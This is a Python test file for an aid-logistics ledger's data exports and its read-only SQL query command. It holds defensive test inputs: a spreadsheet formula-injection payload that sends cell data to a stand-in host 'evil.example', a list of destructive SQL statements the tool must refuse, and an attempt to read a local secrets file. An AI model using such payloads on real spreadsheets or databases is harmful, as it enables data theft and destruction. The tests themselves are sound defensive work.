"""Exports and `aidhub query` on both databases: the figures exported are the ledger's
(checked against `stock.on_hand`, computed apart), HXL files validate with libhxl, XLSX
and Parquet files read back, an owner sees only its goods, and `aidhub query` answers
with the ledger's aggregates and refuses anything that is not a single read."""

import datetime as dt
import json
from collections import Counter, defaultdict
from pathlib import Path

import duckdb
import hxl
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from aidhub.cli.app import app
from aidhub.domain.errors import InvalidInput, NotFound
from aidhub.domain.waybills import PodLine
from aidhub.services import delivery, exports, query, reference, stock, waybills
from aidhub.services.movements import LineRequest, MovementRequest, post_movement
from tests.helpers import TODAY, make_hub, make_outbound_hub
from tests.integration.test_outbound import TRUCK, picked, released

pytestmark = pytest.mark.usefixtures("midday")


@pytest.fixture
def delivered(ctx):
    """The outbound hub after one waybill to DP-A (P-code SY0200) with its proof of
    delivery: 40 bags of lot B1 (owner ECHO) good; of 60 bags of B2 (owner WFP), 55 good,
    2 damaged, 3 short."""
    make_outbound_hub(ctx)
    _, ro = released(ctx, 100)
    picked(ctx, ro)
    wb = waybills.issue(ctx, ro, "DP-A", key="wb", vehicle=TRUCK, driver="Khaled Haddad",
                        transporter="TRANSCO")["waybill"]
    waybills.dispatch(ctx, wb, key="go")
    waybills.track(ctx, wb, "arrived", key="arr")
    delivery.confirm(ctx, wb, [PodLine(1, good=40), PodLine(2, good=55, damaged=2)],
                     key="pod", signer="Amal", seal_state="intact")
    return ctx


def by_name(table) -> list[dict]:
    return [dict(zip(table.names, row, strict=True)) for row in table.rows]


def on_hand(ctx, **filters) -> dict[tuple, int]:
    """The ledger's own stock report, keyed like the export's rows."""
    return {(r.site, r.location, r.item, r.batch, r.owner, r.earmark): r.quantity
            for r in stock.on_hand(ctx, **filters)}


def exported(table) -> dict[tuple, int]:
    return {(r["site"], r["location"], r["item"], r["batch"], r["owner"], r["earmark"]):
            r["quantity"] for r in by_name(table)}


def hxl_report(path: Path) -> dict:
    return hxl.validate(hxl.data(str(path), hxl.InputOptions(allow_local=True)))


# stock -----------------------------------------------------------------------------------
def test_stock_export_is_the_ledger_balance_in_every_format(delivered, tmp_path):
    table = exports.stock(delivered)
    assert exported(table) == on_hand(delivered)
    rows = by_name(table)
    dam = [r for r in rows if r["site"] == "DAM-HUB"]
    assert {(r["adm1_pcode"], r["adm2_pcode"]) for r in dam} == {("SY01", None)}
    assert {r["as_at"] for r in rows} == {TODAY}
    alp = next(r for r in rows if r["site"] == "ALP-HUB")
    assert (alp["item"], alp["batch"], alp["expiry"], alp["owner"], alp["quantity"]) == (
        "RICE", "B3", dt.date(2027, 3, 31), "WFP", 500)
    assert float(alp["weight_kg"]) == pytest.approx(25.1 * 500)

    paths = {fmt: tmp_path / f"stock.{fmt}" for fmt in exports.FORMATS}
    for fmt, path in paths.items():
        exports.write(table, path, fmt)

    report = hxl_report(paths["hxl"])
    assert report["is_valid"], report["issues"]
    dataset = hxl.data(str(paths["hxl"]), hxl.InputOptions(allow_local=True))
    hxl_total = sum(int(r.get("#x_quantity")) for r in dataset)
    assert hxl_total == sum(on_hand(delivered).values())
    assert paths["csv"].read_text().splitlines()[1].startswith(str(TODAY))  # no tag row

    sheet = load_workbook(paths["xlsx"], read_only=True).active
    cells = list(sheet.iter_rows(values_only=True))
    assert list(cells[0]) == table.names
    assert len(cells) == len(table.rows) + 1
    quantity = table.names.index("quantity")
    assert sum(r[quantity] for r in cells[1:]) == sum(on_hand(delivered).values())

    parquet = duckdb.sql(f"SELECT site, location, item, batch, owner, earmark, quantity, "
                         f"expiry FROM '{paths['parquet']}'").fetchall()
    assert {r[:6]: r[6] for r in parquet} == on_hand(delivered)
    assert {r[7] for r in parquet if r[3] == "B3"} == {dt.date(2027, 3, 31)}


def test_stock_at_the_end_of_a_past_day_sums_the_postings_up_to_then(ctx):
    make_hub(ctx)
    day = dt.datetime(2026, 1, 10, 9, tzinfo=dt.UTC)
    post_movement(ctx, MovementRequest("receipt", [LineRequest(
        "TARP", 50, "DAM-HUB/EXTERNAL", "DAM-HUB/A-01", None, None, "ECHO")], "r1", day))
    post_movement(ctx, MovementRequest("adjustment", [LineRequest(
        "TARP", 20, "DAM-HUB/A-01", "DAM-HUB/LOST", None, None, "ECHO")], "a1",
        day + dt.timedelta(days=30)))
    assert exports.stock(ctx, until=dt.date(2026, 1, 9)).rows == []
    (jan,) = by_name(exports.stock(ctx, until=dt.date(2026, 1, 31)))
    assert (jan["as_at"], jan["location"], jan["quantity"]) == (dt.date(2026, 1, 31),
                                                                 "A-01", 50)
    (feb,) = by_name(exports.stock(ctx, until=dt.date(2026, 2, 9)))
    assert feb["quantity"] == 30
    assert exported(exports.stock(ctx, until=TODAY)) == on_hand(ctx)


def test_stock_filters_and_mistakes(delivered):
    assert exported(exports.stock(delivered, site="ALP-HUB")) == on_hand(delivered,
                                                                          site="ALP-HUB")
    with pytest.raises(NotFound, match="no site with code 'NOWHERE'"):
        exports.stock(delivered, site="NOWHERE")
    with pytest.raises(InvalidInput, match=r"field 'from'.*stock is counted at one moment"):
        exports.stock(delivered, since=dt.date(2026, 1, 1))


# movements -------------------------------------------------------------------------------
def test_movements_export_balances_and_adds_up_to_the_stock(delivered, tmp_path):
    table = exports.movements(delivered)
    rows = by_name(table)
    per_movement: dict[tuple, int] = defaultdict(int)
    for r in rows:
        per_movement[(r["movement"], r["item"], r["batch"], r["owner"])] += r["quantity"]
    assert set(per_movement.values()) == {0}  # every movement balances
    assert Counter(r["kind"] for r in rows)["delivery"] == 6  # 40 good; 55 good + 5 lost
    physical: dict[tuple, int] = defaultdict(int)
    for r in rows:
        if r["location_type"] in ("bin", "zone", "staging", "quarantine", "vehicle"):
            physical[(r["site"], r["location"], r["item"], r["batch"], r["owner"],
                      r["earmark"])] += r["quantity"]
    assert {k: q for k, q in physical.items() if q} == on_hand(delivered)

    path = tmp_path / "movements.csv"
    exports.write(table, path, "hxl")
    report = hxl_report(path)
    assert report["is_valid"], report["issues"]
    exports.write(table, tmp_path / "m.parquet", "parquet")
    assert duckdb.sql(f"SELECT count(*), sum(quantity), min(moved_at) FROM "
                      f"'{tmp_path / 'm.parquet'}'").fetchall()[0][:2] == (len(rows), 0)


def test_movements_in_a_period_and_at_a_site(ctx):
    make_hub(ctx)
    for n, day in enumerate((dt.date(2026, 1, 5), dt.date(2026, 1, 20), dt.date(2026, 2, 3))):
        post_movement(ctx, MovementRequest("receipt", [LineRequest(
            "TARP", 10 * (n + 1), "ALP-HUB/EXTERNAL", "ALP-HUB/A-01", None, None, "ECHO")],
            f"r{n}", dt.datetime.combine(day, dt.time(23, 30), dt.UTC)))
    january = by_name(exports.movements(ctx, since=dt.date(2026, 1, 1),
                                        until=dt.date(2026, 1, 31)))
    assert sorted(r["quantity"] for r in january if r["location"] == "A-01") == [10, 20]
    assert {r["adm1_pcode"] for r in january} == {"SY02"}
    only_the_20th = exports.movements(ctx, since=dt.date(2026, 1, 20),
                                      until=dt.date(2026, 1, 20))
    assert sorted(r["quantity"] for r in by_name(only_the_20th)) == [-20, 20]
    assert exports.movements(ctx, site="DAM-HUB").rows == []
    with pytest.raises(InvalidInput, match=r"field 'from'.*reversed.*swap"):
        exports.movements(ctx, since=dt.date(2026, 2, 1), until=dt.date(2026, 1, 1))


# deliveries and 3W -----------------------------------------------------------------------
def test_deliveries_export_has_every_proof_of_delivery_line(delivered, tmp_path):
    rows = by_name(exports.deliveries(delivered))
    assert [(r["batch"], r["owner"], r["shipped"], r["delivered"], r["damaged"], r["short"],
             r["lost"]) for r in rows] == [("B1", "ECHO", 40, 40, 0, 0, 0),
                                           ("B2", "WFP", 60, 55, 2, 3, 0)]
    first = rows[0]
    assert first["waybill"].startswith("WB-DAM-HUB-")
    assert (first["hub"], first["point"], first["adm1_pcode"], first["adm2_pcode"],
            first["consignee"], first["item"], first["category"], first["received"]) == (
        "DAM-HUB", "DP-A", "SY02", "SY0200", "SARC", "RICE", "food_drink", TODAY)
    at_point = on_hand(delivered, site="DP-A", include_virtual=True)
    distributed = sum(q for k, q in at_point.items() if k[1] == "DISTRIBUTED")
    lost = sum(q for k, q in at_point.items() if k[1] == "LOST")
    assert sum(r["delivered"] for r in rows) == distributed == 95
    assert sum(r["damaged"] + r["short"] + r["lost"] for r in rows) == lost == 5

    assert len(exports.deliveries(delivered, site="DP-A").rows) == 2
    assert len(exports.deliveries(delivered, site="DAM-HUB").rows) == 2
    assert exports.deliveries(delivered, site="ALP-HUB").rows == []
    assert exports.deliveries(delivered, until=TODAY - dt.timedelta(days=1)).rows == []
    path = tmp_path / "deliveries.csv"
    exports.write(exports.deliveries(delivered), path, "hxl")
    report = hxl_report(path)
    assert report["is_valid"], report["issues"]


def test_3w_says_who_delivered_what_where_and_when(delivered, tmp_path):
    rows = by_name(exports.three_w(delivered))
    assert [(r["org"], r["owner"], r["sector"], r["adm1_pcode"], r["adm2_pcode"], r["point"],
             r["item"], r["delivered"], r["waybills"], r["date_start"], r["date_end"],
             r["hub"]) for r in rows] == [
        ("SARC", "ECHO", "food_drink", "SY02", "SY0200", "DP-A", "RICE", 40, 1, TODAY, TODAY,
         "DAM-HUB"),
        ("SARC", "WFP", "food_drink", "SY02", "SY0200", "DP-A", "RICE", 55, 1, TODAY, TODAY,
         "DAM-HUB"),
    ]
    assert rows[0]["org_name"] == "Syrian Arab Red Crescent"
    assert float(rows[1]["weight_kg"]) == pytest.approx(55 * 25.1)
    path = tmp_path / "3w.csv"
    exports.write(exports.three_w(delivered), path, "hxl")
    report = hxl_report(path)
    assert report["is_valid"], report["issues"]
    dataset = hxl.data(str(path), hxl.InputOptions(allow_local=True))
    assert [(r.get("#org"), r.get("#adm2+code"), r.get("#sector")) for r in dataset] == [
        ("SARC", "SY0200", "food_drink")] * 2
    sheet = load_workbook(_written(exports.three_w(delivered), tmp_path / "3w.xlsx"),
                          read_only=True).active
    assert [r[7] for r in sheet.iter_rows(min_row=2, values_only=True)] == ["DP-A", "DP-A"]


def _written(table, path: Path) -> Path:
    exports.write(table, path, path.suffix.lstrip("."))
    return path


# an organisation sees its own goods only --------------------------------------------------
def test_every_export_can_be_limited_to_one_owner(delivered):
    with delivered.uow() as uow:
        wfp = reference.organisation(uow, "WFP")
    assert exported(exports.stock(delivered, organisation_id=wfp.id)) == on_hand(
        delivered, owner="WFP")
    assert exported(exports.stock(delivered, owner="WFP")) == on_hand(delivered,
                                                                      owner="WFP")
    for what in ("movements", "deliveries", "3w"):
        rows = by_name(exports.export(delivered, what, organisation_id=wfp.id))
        assert rows and {r["owner"] for r in rows} == {"WFP"}, what
    assert [r["delivered"] for r in by_name(exports.three_w(
        delivered, organisation_id=wfp.id))] == [55]
    with pytest.raises(InvalidInput, match="goods of WFP only"):
        exports.stock(delivered, owner="ECHO", organisation_id=wfp.id)
    with pytest.raises(InvalidInput, match="'iati' is not an export"):
        exports.export(delivered, "iati")


# aidhub query ----------------------------------------------------------------------------
def test_query_answers_with_the_ledgers_figures(delivered):
    physical = sum(on_hand(delivered, site="DAM-HUB").values())
    result = query.run(delivered, """
        SELECT s.code AS site, sum(b.quantity) AS quantity
        FROM balances b JOIN locations l ON l.id = b.location_id
        JOIN sites s ON s.id = l.site_id
        WHERE b.physical GROUP BY s.code ORDER BY s.code""")
    assert result.columns == ["site", "quantity"]
    assert dict(result.rows)["DAM-HUB"] == physical
    with query.Snapshot(delivered) as snapshot:  # the tables are copied once, then kept
        (total,) = snapshot.run("SELECT sum(quantity) FROM postings").rows
        assert total == (0,)
        kinds = dict(snapshot.run("SELECT kind, count(*) FROM movements GROUP BY kind").rows)
        assert kinds["delivery"] == 1 and kinds["dispatch"] == 1
        good = snapshot.run("WITH p AS (SELECT * FROM pod_lines) SELECT sum(good) FROM p")
        assert good.rows == [(95,)]
        tables = {r[0] for r in snapshot.run("SHOW TABLES").rows}
        assert {"balances", "postings", "waybills"} <= tables
        assert "audit_records" not in tables and "parties" not in tables
        assert snapshot.run("DESCRIBE lots").rows
        assert snapshot.run("EXPLAIN SELECT * FROM items").rows


@pytest.mark.parametrize(("sql", "refused"), [
    ("DELETE FROM balances", "DELETE is refused"),
    ("INSERT INTO items (code) VALUES ('X')", "INSERT is refused"),
    ("UPDATE balances SET quantity = 0", "UPDATE is refused"),
    ("DROP TABLE postings", "DROP is refused"),
    ("ATTACH 'other.db' AS other", "ATTACH is refused"),
    ("COPY balances TO 'out.csv'", "COPY is refused"),
    ("CREATE TABLE x AS SELECT 1", "CREATE is refused"),
    ("SET threads = 1", "SET is refused"),
    ("INSTALL sqlite", "LOAD is refused"),
    ("WITH x AS (SELECT 1) DELETE FROM balances", "DELETE is refused"),
    ("EXPLAIN ANALYZE DELETE FROM balances", "EXPLAIN of DELETE is refused"),
    ("SELECT 1; DELETE FROM balances", "found 2 statements"),
    ("SELECT 1; SELECT 2", "found 2 statements"),
    ("/* why */ EXPLAIN -- plan\n UPDATE balances SET quantity = 0",
     "EXPLAIN of UPDATE is refused"),
])
def test_query_refuses_anything_but_one_read(delivered, sql, refused):
    before = on_hand(delivered, include_virtual=True)
    with pytest.raises(InvalidInput, match="aidhub query is read-only: .*" + refused):
        query.run(delivered, sql)
    assert on_hand(delivered, include_virtual=True) == before


def test_query_reads_no_file_and_explains_its_mistakes(ctx, tmp_path):
    secret = tmp_path / "secret.csv"
    secret.write_text("a\n1\n")
    with pytest.raises(InvalidInput, match="file system operations are disabled"):
        query.run(ctx, f"SELECT * FROM read_csv('{secret}')")
    with pytest.raises(InvalidInput, match=r"(?s)nope does not exist.*SHOW TABLES"):
        query.run(ctx, "SELECT * FROM nope")
    with pytest.raises(InvalidInput, match="field 'sql': the SQL cannot be read"):
        query.run(ctx, "SELEC 1")
    with pytest.raises(InvalidInput, match="give the SQL"):
        query.run(ctx, "  ")


# the commands ----------------------------------------------------------------------------
def test_export_and_query_commands(delivered, db_url, tmp_path):
    runner = CliRunner()

    def run(*args: str, ok: bool = True):
        result = runner.invoke(app, ["--database", db_url, "--as", "tester", *args])
        assert (result.exit_code == 0) == ok, result.output
        return result.output

    target = tmp_path / "stock.xlsx"
    assert "rows of stock on hand" in run("export", "stock", "-o", str(target))
    assert load_workbook(target).active.max_row == len(
        on_hand(delivered)) + 1  # xlsx from the file's extension
    out = run("export", "3w", "--format", "hxl", "-o", "-", "--site", "DP-A")
    assert out.splitlines()[1].startswith("#org+impl+code,")
    assert "stock is counted at one moment" in run("export", "stock", "--from",
                                                   "2026-01-01", ok=False)
    assert "not a date" in run("export", "movements", "--to", "soon", ok=False)
    assert "parquet is not text" in run("export", "stock", "-f", "parquet", "-o", "-",
                                        ok=False)
    answer = json.loads(run("query", "SELECT count(*) AS n FROM pods", "--format", "json"))
    assert answer == [{"n": 1}]
    assert run("query", "SELECT code FROM sites ORDER BY code", "-f", "csv"
               ).splitlines()[:2] == ["code", "ALP-HUB"]
    assert "read-only" in run("query", "DROP TABLE balances", ok=False)


def test_query_explains_a_read_with_comments_and_dashes_in_strings(ctx):
    result = query.run(ctx, "/* plan */ EXPLAIN -- of a read\n SELECT '--not a comment' AS x")
    assert result.rows
    assert query.run(ctx, "SELECT '--x' AS x -- trailing").rows == [("--x",)]


def test_text_a_spreadsheet_would_run_is_neutralised(ctx, tmp_path):
    from tests.helpers import receive

    make_hub(ctx)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    reference.add_organisation(ctx, key="o-evil", code="EVIL", name=evil, type="ngo")
    receive(ctx, "RICE", 5, key="r-evil", owner="EVIL")
    table = exports.export(ctx, "stock")
    out_csv, out_xlsx = tmp_path / "s.csv", tmp_path / "s.xlsx"
    exports.write(table, out_csv, "csv")
    exports.write(table, out_xlsx, "xlsx")
    assert f"'{evil}".replace('"', '""') in out_csv.read_text()
    cells = [c.value for row in load_workbook(out_xlsx).active.iter_rows() for c in row]
    assert "'" + evil in cells and evil not in cells
    assert 5 in cells  # numbers stay numbers
